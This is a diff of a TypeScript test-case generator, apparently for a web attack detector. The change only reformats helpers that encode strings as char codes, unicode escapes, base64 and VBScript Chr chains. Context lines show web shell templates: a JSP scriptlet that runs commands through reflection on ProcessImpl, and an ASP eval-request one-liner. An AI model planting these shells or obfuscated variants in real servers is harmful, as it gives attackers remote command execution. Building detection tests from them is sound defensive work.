@@ -1,9 +1,14 @@
 import type { Case } from './index.ts'
 import type { Random } from './random.ts'
 
-const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',')
+const codes = (text: string): string =>
+  Array.from(text)
+    .map((c) => c.charCodeAt(0))
+    .join(',')
 const unicode = (text: string): string =>
-  [...text].map((c) => (/[a-z]/i.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c)).join('')
+  Array.from(text)
+    .map((c) => (/[a-z]/i.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c))
+    .join('')
 const base64 = (text: string): string => Buffer.from(text).toString('base64')
 
 const JAVA_REQUESTS = [
@@ -57,7 +62,10 @@ const JAVA: readonly ((request: string, random: Random) => string)[] = [
     `<% Class u = Class.forName("java.lang.ProcessImpl"); java.lang.reflect.Method m = u.getDeclaredMethod("start", String[].class); m.setAccessible(true); m.invoke(null, (Object) ${q}.split(" ")); %>`,
 ]
 
-const chain = (text: string): string => [...text].map((c) => `Chr(${c.charCodeAt(0)})`).join('&')
+const chain = (text: string): string =>
+  Array.from(text)
+    .map((c) => `Chr(${c.charCodeAt(0)})`)
+    .join('&')
 
 const ASP: readonly ((random: Random) => string)[] = [
   (r) => `<%eval request("${r.name()}")%>`,
